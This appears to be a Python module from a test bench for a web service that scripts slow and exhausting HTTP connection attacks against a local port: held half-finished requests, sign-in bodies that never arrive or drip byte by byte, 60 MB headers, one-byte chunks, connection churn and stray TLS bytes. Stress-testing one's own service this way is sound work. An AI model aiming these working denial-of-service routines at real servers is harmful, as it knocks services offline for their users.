"""The attacks by connections: held, half used, or opened again and again."""

import contextlib
import itertools
import time
from typing import Final

from bench.hostile.clients import (
    PAUSE_SECONDS,
    SIGN_IN_HEAD,
    addresses,
    campaign,
    connected,
    each_from_own_address,
    hold,
    repeat,
)

_MEGABYTE: Final = 1024 * 1024


def large_header(port: int) -> None:
    """One header of 60 MB."""
    while True:
        with contextlib.suppress(OSError), connected(port, next(addresses(1))) as connection:
            campaign.note_sent()
            connection.sendall(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Long: ")
            for _ in range(60):
                connection.sendall(b"a" * _MEGABYTE)
        time.sleep(PAUSE_SECONDS)


def small_chunks(port: int) -> None:
    """Six clients send a body in chunks of one byte."""
    part = b"1\r\n \r\n" * 5000

    def send(address: str) -> None:
        while True:
            with contextlib.suppress(OSError), connected(port, address) as connection:
                campaign.note_sent()
                connection.sendall(SIGN_IN_HEAD + b"Transfer-Encoding: chunked\r\n\r\n")
                for _ in itertools.repeat(None, 100):
                    connection.sendall(part)
            time.sleep(PAUSE_SECONDS)

    each_from_own_address(6, send)


def slow_readers(port: int) -> None:
    """Three hundred clients ask for a long answer and read nothing of it."""
    hold(port, b"GET /openapi.yaml HTTP/1.1\r\nHost: localhost\r\n\r\n", 300)


def half_requests(port: int) -> None:
    """Three thousand requests without an end from three addresses, and new ones for those that were closed."""
    hold(port, b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n", 3000)


def half_bodies(port: int) -> None:
    """A thousand sign-ins whose body does not arrive."""
    hold(port, SIGN_IN_HEAD + b"Content-Length: 1000000\r\n\r\n{", 1000)


def churn(port: int) -> None:
    """Six clients open connections and close them."""

    def open_and_close(address: str) -> None:
        while True:
            campaign.note_sent()
            with contextlib.suppress(OSError), connected(port, address):
                pass

    each_from_own_address(6, open_and_close)


def tls_bytes(port: int) -> None:
    """Six clients speak TLS."""
    hello = bytes.fromhex("16030100c8010000c40303") + bytes(200)
    each_from_own_address(6, lambda address: repeat(port, address, hello))


def expected_bodies(port: int) -> None:
    """A thousand clients wait for 100 Continue before a body that they never send."""
    hold(port, SIGN_IN_HEAD + b"Content-Length: 900000\r\nExpect: 100-continue\r\n\r\n", 1000)


def dripping_bodies(port: int) -> None:
    """Three hundred sign-ins whose body arrives byte by byte."""
    body = b'{"email": "hemi@example.nz", "password": "' + b"x" * 200

    def drip(address: str) -> None:
        while True:
            with contextlib.ExitStack() as stack, contextlib.suppress(OSError):
                held = [stack.enter_context(connected(port, address)) for _ in range(100)]
                for connection in held:
                    campaign.note_sent()
                    connection.sendall(SIGN_IN_HEAD + b"Content-Length: 1000\r\n\r\n")
                for byte in body:
                    time.sleep(0.2)
                    for connection in held:
                        connection.sendall(bytes([byte]))
            time.sleep(PAUSE_SECONDS)

    each_from_own_address(3, drip)
